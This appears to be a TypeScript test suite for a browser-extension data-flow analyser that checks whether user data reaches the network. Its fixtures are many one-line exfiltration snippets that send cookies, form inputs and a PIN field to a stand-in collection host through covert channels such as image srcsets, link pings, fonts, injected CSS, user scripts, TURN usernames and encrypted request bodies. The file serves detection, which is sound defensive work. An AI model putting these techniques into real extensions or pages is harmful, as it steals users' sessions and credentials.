import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../testing/flows-between.ts';

/** Lines that send `$`, once with what is the user's and once with what is not. */
type Forms = readonly (readonly [what: string, lines: string])[];

const host = 'https://collect.a-site.net/in';
const post = (data: string): string => `fetch('${host}', { method: 'POST', body: ${data} })`;

const inPages: Forms = [
  ['a set of pictures', `document.createElement('img').srcset = '${host}?' + $ + ' 2x'`],
  ['the poster of a video', `document.createElement('video').poster = '${host}?' + $`],
  ['captions', `const t = document.createElement('track'); t.src = '${host}?' + $`],
  ['what a link pings', `const a = document.createElement('a'); a.ping = '${host}?' + $`],
  [
    'a link that the script clicks',
    `const a = document.createElement('a'); a.href = '${host}?' + $; a.click()`,
  ],
  [
    'a picture in SVG',
    `const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', '${host}?' + $)`,
  ],
  ['the icon of the page', `document.querySelector('link[rel=icon]').href = '${host}?' + $`],
  ['a sound', `new Audio('${host}?' + $)`],
  ['a font', `new FontFace('tide', 'url(${host}?' + $ + ')').load()`],
  [
    'markup of another document',
    `new DOMParser().parseFromString('<img src="${host}?' + $ + '">', 'text/html')`,
  ],
  ['markup that may hold anything', `box.setHTMLUnsafe('<img src="${host}?' + $ + '">')`],
  [
    'code that holds it',
    `const s = document.createElement('script'); s.textContent = 'fetch("${host}?' + $ + '")'`,
  ],
  [
    'a frame of another host',
    `const f = document.createElement('iframe'); f.src = '${host}'; f.contentWindow.postMessage($, '*')`,
  ],
];

const inWorkers: Forms = [
  ['the body of a download', `chrome.downloads.download({ url: '${host}', body: $ })`],
  [
    'the picture of a notification',
    `chrome.notifications.create({ type: 'image', imageUrl: '${host}?' + $ })`,
  ],
  [
    'parameters that a rule adds',
    `chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 1, action: { type: 'redirect', redirect: { transform: { queryTransform: { addOrReplaceParams: [{ key: 'd', value: $ }] } } } }, condition: {} }] })`,
  ],
  [
    'the name that a relay server is told',
    `new RTCPeerConnection({ iceServers: [{ urls: 'turn:a-site.net', username: $ }] })`,
  ],
  [
    'a cookie of another site',
    `chrome.cookies.set({ url: 'https://a-site.net', name: 'd', value: $ })`,
  ],
  [
    'a style of a page',
    `chrome.scripting.insertCSS({ target: { tabId: 3 }, css: 'b { background: url(${host}?' + $ + ') }' })`,
  ],
  [
    'a script of the user',
    `chrome.userScripts.register([{ id: 'a', matches: ['*://*/*'], js: [{ code: 'fetch("${host}?' + $ + '")' }] }])`,
  ],
  [
    'packed bytes',
    `new Response(new Blob([$]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then((b) => ${post('b')})`,
  ],
  [
    'sealed bytes',
    `crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode($)).then((b) => ${post('b')})`,
  ],
  [
    'bytes behind a view',
    `const b = new ArrayBuffer(9); const v = new DataView(b); v.setUint8(0, $.charCodeAt(0)); ${post('b')}`,
  ],
  [
    'bytes that are put in at a place',
    `const b = new Uint8Array(99); b.set(new TextEncoder().encode($), 4); ${post('b')}`,
  ],
  [
    'bytes that an encoder fills',
    `const b = new Uint8Array(99); new TextEncoder().encodeInto($, b); ${post('b')}`,
  ],
  ['a stream', `const body = new ReadableStream({ start(to) { to.enqueue($) } }); ${post('body')}`],
  ['the trap of a proxy', `const p = new Proxy({}, { get: () => $ }); ${post('p.any')}`],
  ['the text of an object', `const o = { toString() { return $ } }; ${post("'' + o")}`],
  ['the JSON of an object', `const o = { toJSON: () => $ }; ${post('JSON.stringify(o)')}`],
  [
    'what an object is made when it is compared',
    `const o = { [Symbol.toPrimitive]: () => $ }; ${post("'' + o")}`,
  ],
  [
    'what an object hands out in a loop',
    `const o = { *[Symbol.iterator]() { yield $ } }; for (const part of o) ${post('part')}`,
  ],
];

const sources: readonly (readonly [kind: string, lines: string, other: string])[] = [
  ['cookies', `cookieStore.getAll().then((jar) => ${post('$')})`, 'jar'],
  ['form-input', `addEventListener('formdata', (e) => ${post('$')})`, 'e.formData'],
  ['form-input', `addEventListener('change', (e) => ${post('$')})`, 'e.composedPath()[0].value'],
  ['form-input', `const f = document.forms[0]; ${post('$')}`, "f.elements.namedItem('pin').value"],
  [
    'form-input',
    `const all = document.evaluate('//input', document, null, 7, null); ${post('$')}`,
    'all.snapshotItem(0).value',
  ],
];

const reach = (file: string, code: string): string[] =>
  flowsBetween({ [file]: code }).filter((flow) => flow.includes('> network'));

describe('what is the user’s leaves a page as', () => {
  for (const [what, lines] of inPages)
    it(what, () => {
      assert.match(reach('content.js', lines.replace('$', 'document.cookie')).join(), /^cookies/u);
      assert.deepEqual(reach('content.js', lines.replace('$', 'document.readyState')), []);
    });
});

describe('what is the user’s leaves a worker as', () => {
  for (const [what, lines] of inWorkers)
    it(what, () => {
      const asked = `chrome.cookies.get({ name: 'sid' }, (c) => { ${lines} })`;
      assert.match(reach('worker.js', asked.replace('$', 'c.value')).join(), /^cookies/u);
      assert.deepEqual(reach('worker.js', asked.replace('$', 'String(c.secure)')), []);
    });
});

describe('what is the user’s is read', () => {
  for (const [kind, lines, data] of sources)
    it(`${kind} as ${data}`, () => {
      assert.match(
        reach('content.js', lines.replace('$', data)).join(),
        new RegExp(`^${kind} .*high`, 'u'),
      );
      assert.deepEqual(reach('content.js', lines.replace('$', "'tide'")), []);
    });

  for (const [how, call] of [
    ['a function', `chrome.scripting.executeScript({ target, func: () => document.cookie })`],
    ['a text', `new Promise((y) => chrome.tabs.executeScript({ code: 'document.cookie' }, y))`],
  ] as const)
    it(`as cookies by ${how} that is injected`, () =>
      assert.match(
        reach('worker.js', `${call}.then((all) => ${post('all[0]')})`).join(),
        /^cookies/u,
      ));
});
